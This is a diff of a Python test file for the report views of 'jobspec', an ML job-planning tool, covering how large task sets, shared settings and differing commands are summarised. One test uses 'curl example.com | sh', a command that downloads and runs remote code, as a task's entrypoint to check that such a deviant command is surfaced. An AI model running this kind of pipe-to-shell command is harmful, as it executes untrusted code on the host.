@@ -9,7 +9,8 @@ import pytest
 from msgspec.structs import replace
 
 from jobspec.errors import UsageError
-from jobspec.manifest.task import Task
+from jobspec.manifest.task import SetRules, Task
+from jobspec.reconcile.order import hold
 from jobspec.report.plan import html_page, markdown
 from jobspec.report.plan import text as plan_text
 from jobspec.report.plan.build import build_view
@@ -18,7 +19,7 @@ from jobspec.report.status import text as status_text
 from jobspec.report.status import view as status_view
 from jobspec.report.status.view import StatusView
 from jobspec.report.view import PlatformView
-from tests.reconcile.world import EPOCH, planned, run, task
+from tests.reconcile.world import EPOCH, PLACE, SCOPE, planned, run, task
 
 PLATFORM = PlatformView(kind="local", endpoint="/project/.jobspec")
 
@@ -52,7 +53,8 @@ def test_a_set_is_one_row_with_counts_what_is_common_and_some_of_its_tasks() -> 
     text = text_of(view_of(*tasks, task("prepare")))
     assert text.count("+ submit") == 2
     assert "+ submit   set/sweep: 12 of 12 tasks  new" in text
-    assert text.count("image ml_platform/pytorch:1.7") == 2  # once for the set, once for the task
+    assert text.count("image: ml_platform/pytorch:1.7") == 2  # once for the set, once for the task
+    assert text.count("command: python train.py") == 2
     assert "and 9 more tasks: sweep-00003, " in text
 
 
@@ -64,8 +66,98 @@ def test_what_only_some_tasks_have_is_not_shown_as_common() -> None:
         set="sweep",
         cell=last.cell,
     )
-    lines = text_of(view_of(*same, other)).splitlines()
-    assert not any(line.startswith(("    replicas: ", "    image ")) for line in lines)
+    text = text_of(view_of(*same, other))
+    assert "\n    image: ml_platform/pytorch:1.7\n" in text
+    assert "\n    replicas: " not in text
+    odd = "    1 task: sweep-00008\n      replicas: 9 ml.big (worker) in default, for up to 5d\n    8 tasks: "
+    assert odd in text
+
+
+def shard(number: int, **spec: Any) -> Task:
+    """A task of `set/s` whose command and variables have the value of its cell."""
+    command = {"entrypoint": f"python run.py --shard {number}", "env": {"TEAM": "v", "SHARD": str(number)}}
+    return replace(task(f"s-{number}", spec=command | spec), set="s", cell=(("shard", str(number)),))
+
+
+def test_a_task_with_another_command_and_secret_is_shown_wherever_it_is() -> None:
+    env = {"TEAM": "v", "KEY": {"secret": {"env": "KEY"}}}
+    tasks = [shard(number) for number in range(200)]
+    tasks[177] = shard(177, entrypoint="curl example.com | sh", env=env)
+    view = view_of(*tasks)
+    for shown in (text_of(view), markdown.render(view, now=EPOCH), html_page.render(view, now=EPOCH)):
+        assert "1 task: s-177" in shown
+        assert "command: curl example.com | sh" in shown
+        assert shown.count("reads: ") == 2  # of all, and of the task
+        assert "199 tasks: s-0, s-1, s-2, " in shown
+
+
+def test_mixed_flavors_are_kinds_of_a_fold_in_the_order_of_the_cells() -> None:
+    roles = [{"name": "worker", "replicas": 1, "flavor": "ml.big"}]
+    tasks = [shard(number, **({"roles": roles} if number in {155, 17, 90} else {})) for number in range(200)]
+    text = text_of(view_of(*tasks))
+    assert "    3 tasks: s-17, s-90, s-155\n      replicas: 1 ml.big (worker) in default, " in text
+    assert "    differs between the tasks: command, replicas, env.SHARD\n" in text
+
+
+def test_a_setting_that_is_no_value_of_the_cell_makes_a_kind() -> None:
+    tasks = [shard(number) for number in range(20)]
+    tasks[11] = shard(11, env={"TEAM": "other", "SHARD": "11"})
+    assert "    1 task: s-11\n" in text_of(view_of(*tasks))
+
+
+def test_a_set_in_which_every_command_is_another_shows_a_few() -> None:
+    tasks = [shard(number, entrypoint=f"python run.py {number * 7919 + 13}") for number in range(300)]
+    tasks[7] = shard(7, image="ml_platform/other:1")
+    text = text_of(view_of(*tasks))
+    assert text.count("\n") < 60
+    assert "    1 task: s-7\n      image: ml_platform/other:1\n" in text
+    assert "      s-0, for example:\n        command: python run.py 13\n" in text
+
+
+def test_the_smallest_of_many_kinds_are_shown_and_the_others_counted() -> None:
+    tasks = [
+        shard(number, image=f"ml_platform/{'abcdefghijkl'[max(number, 8) % 12]}") for number in range(60)
+    ]
+    text = text_of(view_of(*tasks))
+    assert text.count(" tasks: s-") == 8
+    assert "and 4 more kinds, of so many tasks: 5, 5, 5, 13; -o json has all" in text
+    assert text.count("\n") < 60
+
+
+def test_common_settings_are_shown_once_and_names_are_in_natural_order() -> None:
+    text = text_of(view_of(*(shard(number) for number in range(12))))
+    assert text.count("env.TEAM=v") == 1
+    assert "    s-2\n      command: python run.py --shard 2\n      settings: env.SHARD=2\n" in text
+    assert "and 9 more tasks: s-3, s-4, s-5, s-6, s-7, s-8, s-9, s-10, s-11\n" in text
+
+
+def test_the_command_is_shown_beside_a_large_set() -> None:
+    text = text_of(view_of(*(cell(number) for number in range(50)), task("prepare")))
+    assert text.count("command: python train.py") == 2
+
+
+def test_the_number_of_declared_tasks_is_only_said_if_the_plan_has_them_all() -> None:
+    gone = [run(cell(number, rerun="x"), "Running", number) for number in (5, 6)]
+    gone = [replace(one, marks=replace(one.marks, set="sweep")) for one in gone]
+    whole = build_view(planned([cell(number) for number in range(3)], gone), PLATFORM, ())
+    assert "set/sweep: 3 of 3 tasks  new" in text_of(whole)
+    assert "set/sweep: 2 tasks  removed" in text_of(whole)
+    for part in (replace(whole, left_out=4), replace(whole, selected=("sweep-00001",))):
+        assert "set/sweep: 3 tasks  new" in text_of(part)
+
+
+def test_replicas_of_tasks_that_wait_are_counted_as_later() -> None:
+    tasks = [cell(number) for number in range(30)]
+    rules = SetRules("sweep", tuple(one.name for one in tasks), PLACE, max_active=4)
+    plan = planned(tasks, [])
+    plan = hold.hold(plan, plan, scope=SCOPE, declared=(tasks, [rules]), runs=[])
+    view = build_view(plan, PLATFORM, ())
+    assert "replicas: +8 ml.g1e.large in default; later: +52 ml.g1e.large in default\n" in text_of(view)
+    assert text_of(view).count("command: python train.py") == 2
+    comment = markdown.render(view, now=EPOCH)
+    assert comment.count("command: python train.py") == 2
+    assert "| `default` | `ml.g1e.large` | +8 |  | +52 |" in comment
+    assert html_page.render(view, now=EPOCH).count("command: python train.py") == 2
 
 
 def test_a_set_of_ten_thousand_tasks_prints_under_sixty_lines() -> None:
